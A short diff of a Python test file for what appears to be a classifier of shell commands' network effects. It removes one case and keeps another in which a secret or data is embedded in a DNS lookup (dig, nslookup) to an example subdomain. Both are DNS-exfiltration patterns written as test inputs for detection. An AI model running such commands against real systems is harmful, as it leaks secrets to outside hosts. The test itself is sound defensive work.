@@ -278,10 +278,6 @@ def test_other_machines(line, stdin, expected):
     ("line", "expected"),
     [
         ("dig +short example.com", [Connects("example.com")]),
-        (
-            f"dig {SECRET}.e.example",
-            [Sends(f"{SECRET}.e.example", "secret"), Connects(f"{SECRET}.e.example")],
-        ),
         (f"nslookup {HOLE}.e.example", [Sends(f"{HOLE}.e.example", "data"), Connects(f"{HOLE}.e.example")]),
         ("ping -c 1 localhost", []),
         ("mutt", []),
